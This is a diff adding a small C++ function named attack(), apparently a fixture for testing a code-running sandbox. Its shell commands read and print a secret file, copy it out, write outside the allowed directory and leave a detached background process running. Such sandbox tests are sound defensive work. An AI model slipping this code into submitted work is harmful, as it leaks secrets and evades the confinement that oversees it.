@@ -1,0 +1,8 @@
+// Let other programs do it.
+#include <cstdlib>
+#include <unistd.h>
+float attack() {
+    std::system("cat " SECRET "; cp " SECRET " outputs.bin; id > " OUTSIDE "/id; (setsid sleep 1000 &)");
+    execl("/bin/sh", "sh", "-c", "read -r x < " SECRET " && echo \"leak: $x\"; echo y > " OUTSIDE "/y", nullptr);
+    return 0.0f;
+}
